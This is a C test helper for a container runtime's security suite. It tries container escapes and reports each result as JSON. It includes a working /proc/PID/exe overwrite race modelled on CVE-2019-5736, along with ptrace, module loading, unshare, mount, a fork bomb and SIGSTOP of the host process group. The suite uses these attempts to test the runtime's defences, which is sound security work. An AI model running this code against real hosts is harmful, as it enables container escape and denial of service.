/* attacker: the hostile program of pytest/test_attacks.py, run inside test
 * containers.  Compiled statically by the test (cc -static) into the bundle's
 * rootfs.  Every mode prints one JSON object per line on stdout (or to OUT)
 * describing what it managed to do; the test asserts that it did nothing.
 *
 *   attacker exe-race SECONDS OUT
 *       For SECONDS, scan /proc for processes other than ourselves and try
 *       to open /proc/PID/exe read-only (CVE-2019-5736: the runtime's exec
 *       child is the runtime binary until it execs) and to ptrace them.
 *       husk's sealed exec stub (/memfd:husk-dmz) is counted apart: it may
 *       be seen, not written (stub_write).  A foreign exe (not a file of
 *       the rootfs) that opens is then reopened for writing through
 *       /proc/self/fd/N until it stops being busy (ETXTBSY) or the time is
 *       up, and overwritten with a marker.
 *   attacker exe-self OUT
 *       Try to reopen /proc/self/exe for writing.
 *   attacker module     init_module and finit_module of garbage (harmless:
 *                       the capability check comes before any parsing)
 *   attacker unshare    unshare(2) every namespace type, one at a time
 *   attacker mount      mount a tmpfs, remount /, bind-mount /proc
 *   attacker forkbomb N fork up to N children that pause, report how many
 *   attacker stop-pgrp  SIGSTOP our whole process group (kill(0, ...))
 *   attacker readpaths PATH...  try to open and read each path
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
  const char *n = strerrorname_np(e);
  return e == 0 ? "ok" : n ? n : "E?";
}

static double now(void)
{
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ---- exe-race ---- */

#define MAX_KNOWN 8
static struct stat known[MAX_KNOWN];
static int n_known;

static void add_known(const char *path)
{
  if (n_known < MAX_KNOWN && stat(path, &known[n_known]) == 0)
    n_known++;
}

static int is_known(const struct stat *st)
{
  for (int i = 0; i < n_known; i++)
    if (known[i].st_dev == st->st_dev && known[i].st_ino == st->st_ino)
      return 1;
  return 0;
}

static const char marker[] = "HUSK-ATTACK-OVERWROTE-THIS";

/* fd (an opened /proc/PID/exe) is husk's sealed exec stub (a memfd) */
static int is_stub(int fd)
{
  char l[64], t[256];
  snprintf(l, sizeof l, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(l, t, sizeof t - 1);
  t[n > 0 ? n : 0] = 0;
  return strncmp(t, "/memfd:husk-dmz", 15) == 0;
}

/* pid runs the stub (its argv[0]) */
static int cmdline_is_stub(pid_t pid)
{
  char p[64], t[16] = "";
  snprintf(p, sizeof p, "/proc/%d/cmdline", (int)pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  ssize_t n = read(fd, t, sizeof t - 1);
  close(fd);
  return n >= 9 && strcmp(t, "husk-dmz") == 0;
}

/* Reopen fd for writing through /proc/self/fd until deadline; returns the
 * errno of the last attempt (0: the marker was written). */
static int overwrite(int fd, double deadline)
{
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  int e;
  do {
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      e = pwrite(w, marker, sizeof marker - 1, 0) == (ssize_t)(sizeof marker - 1) ? 0 : errno;
      close(w);
      return e;
    }
    e = errno;
    if (e != ETXTBSY)
      return e;
    usleep(1000);
  } while (now() < deadline);
  return e;
}

static int cmd_exe_race(double seconds, const char *out_path)
{
  FILE *out = fopen(out_path, "w");
  if (!out)
    return 3;
  add_known("/proc/self/exe");
  add_known("/bin/busybox");
  add_known("/bin/probe");
  add_known("/bin/attacker");
  pid_t self = getpid();
  double deadline = now() + seconds;
  long scans = 0, pids_seen = 0, opened = 0, foreign = 0, ptraced = 0, stub_seen = 0;
  int write_result = -1, stub_write = -1;
  char foreign_path[512] = "";
  while (now() < deadline) {
    DIR *d = opendir("/proc");
    if (!d)
      break;
    struct dirent *de;
    while ((de = readdir(d))) {
      pid_t pid = (pid_t)atoi(de->d_name);
      if (pid <= 0 || pid == self)
        continue;
      pids_seen++;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
      int fd = open(p, O_RDONLY | O_CLOEXEC);
      if (fd >= 0 && is_stub(fd)) {
        /* husk's sealed exec stub: try to overwrite it all the same */
        stub_seen++;
        stub_write = overwrite(fd, now() + 0.05);
        close(fd);
        fd = -1;
      }
      if (fd >= 0) {
        opened++;
        struct stat st;
        if (fstat(fd, &st) == 0 && !is_known(&st)) {
          foreign++;
          ssize_t n = readlink(p, foreign_path, sizeof foreign_path - 1);
          foreign_path[n > 0 ? n : 0] = 0;
          if (write_result != 0)
            write_result = overwrite(fd, deadline + 5);
        }
        close(fd);
      }
      /* SEIZE + INTERRUPT: no SIGSTOP left behind if it execs meanwhile */
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        /* stopped: is it still the runtime (or one we cannot even look at)? */
        int efd = open(p, O_RDONLY | O_CLOEXEC);
        int oe = efd < 0 ? errno : 0;
        struct stat st;
        /* ENOENT: it exited under us (a zombie has no exe) */
        /* (the stub makes itself non-dumpable first thing: EACCES then) */
        if ((efd >= 0 && !is_stub(efd) && fstat(efd, &st) == 0 && !is_known(&st)) ||
            ((oe == EACCES || oe == EPERM) && !cmdline_is_stub(pid)))
          ptraced++;
        if (efd >= 0)
          close(efd);
        ptrace(PTRACE_DETACH, pid, 0, 0);
      }
    }
    closedir(d);
    scans++;
  }
  fprintf(out,
          "{\"scans\":%ld,\"pids_seen\":%ld,\"opened\":%ld,\"foreign\":%ld,\"ptraced\":%ld,"
          "\"foreign_path\":\"%s\",\"write\":\"%s\",\"stub_seen\":%ld,\"stub_write\":\"%s\"}\n",
          scans, pids_seen, opened, foreign, ptraced, foreign_path,
          write_result < 0 ? "not-tried" : ename(write_result), stub_seen,
          stub_write < 0 ? "not-tried" : ename(stub_write));
  fclose(out);
  return 0;
}

static int cmd_exe_self(const char *out_path)
{
  FILE *out = fopen(out_path, "w");
  if (!out)
    return 3;
  int w = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
  int e1 = w < 0 ? errno : 0;
  if (w >= 0)
    close(w);
  int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  int e2 = fd < 0 ? errno : overwrite(fd, now() + 1);
  fprintf(out, "{\"open_write\":\"%s\",\"reopen_write\":\"%s\"}\n", ename(e1), ename(e2));
  fclose(out);
  return 0;
}

/* ---- capabilities ---- */

static void result(const char *op, long rc)
{
  printf("{\"op\":\"%s\",\"result\":\"%s\"}\n", op, ename(rc < 0 ? errno : 0));
  fflush(stdout);
}

static int cmd_module(void)
{
  static const char junk[] = "not an ELF module";
  result("init_module", syscall(SYS_init_module, junk, sizeof junk, ""));
  int fd = open("/bin/busybox", O_RDONLY | O_CLOEXEC);
  result("finit_module", syscall(SYS_finit_module, fd, "", 0));
  result("delete_module", syscall(SYS_delete_module, "husk_no_such_module", O_NONBLOCK));
  return 0;
}

static int cmd_unshare(void)
{
  static const struct {
    const char *name;
    int flag;
  } nss[] = {{"mnt", CLONE_NEWNS},  {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC},
             {"net", CLONE_NEWNET}, {"pid", CLONE_NEWPID}, {"cgroup", CLONE_NEWCGROUP},
             {"time", 0x80}};
  for (size_t i = 0; i < sizeof nss / sizeof nss[0]; i++) {
    char op[32];
    snprintf(op, sizeof op, "unshare-%s", nss[i].name);
    result(op, unshare(nss[i].flag));
  }
  return 0;
}

static int cmd_mount(void)
{
  result("mount-tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
  result("remount-root-rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  result("bind-proc", mount("/proc", "/mnt", NULL, MS_BIND, NULL));
  result("umount-proc-sys", umount2("/proc/sys", MNT_DETACH));
  result("move-mount-syscall", syscall(SYS_fsopen, "tmpfs", 0));
  return 0;
}

static int cmd_forkbomb(long n)
{
  long made = 0;
  int last = 0;
  for (long i = 0; i < n; i++) {
    pid_t p = fork();
    if (p == 0) {
      pause();
      _exit(0);
    }
    if (p < 0) {
      last = errno;
      break;
    }
    made++;
  }
  printf("{\"forked\":%ld,\"stopped_by\":\"%s\"}\n", made, made < n ? ename(last) : "none");
  fflush(stdout);
  return 0; /* as the pid namespace's init, our exit kills the children */
}

/* Stop every process of our process group: without a session of its own the
 * container shares the group of whoever ran the runtime on the host. */
static int cmd_stop_pgrp(void)
{
  printf("{\"pid\":%d,\"pgid\":%d,\"sid\":%d}\n", (int)getpid(), (int)getpgid(0), (int)getsid(0));
  result("kill-own-pgrp-SIGSTOP", kill(0, SIGSTOP));
  sleep(2);
  return 0;
}

static int cmd_readpaths(int argc, char **argv)
{
  for (int i = 0; i < argc; i++) {
    int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
    int e = fd < 0 ? errno : 0;
    long n = 0;
    if (fd >= 0) {
      char buf[4096];
      ssize_t r = read(fd, buf, sizeof buf);
      if (r < 0)
        e = errno;
      n = r > 0 ? r : 0;
      close(fd);
    }
    printf("{\"path\":\"%s\",\"result\":\"%s\",\"bytes\":%ld}\n", argv[i], ename(e), n);
  }
  fflush(stdout);
  return 0;
}

int main(int argc, char **argv)
{
  if (argc >= 4 && strcmp(argv[1], "exe-race") == 0)
    return cmd_exe_race(atof(argv[2]), argv[3]);
  if (argc >= 3 && strcmp(argv[1], "exe-self") == 0)
    return cmd_exe_self(argv[2]);
  if (argc >= 2 && strcmp(argv[1], "module") == 0)
    return cmd_module();
  if (argc >= 2 && strcmp(argv[1], "unshare") == 0)
    return cmd_unshare();
  if (argc >= 2 && strcmp(argv[1], "mount") == 0)
    return cmd_mount();
  if (argc >= 3 && strcmp(argv[1], "forkbomb") == 0)
    return cmd_forkbomb(atol(argv[2]));
  if (argc >= 2 && strcmp(argv[1], "stop-pgrp") == 0)
    return cmd_stop_pgrp();
  if (argc >= 2 && strcmp(argv[1], "readpaths") == 0)
    return cmd_readpaths(argc - 2, argv + 2);
  fprintf(stderr, "usage: attacker exe-race|exe-self|module|unshare|mount|forkbomb|readpaths\n");
  return 2;
}
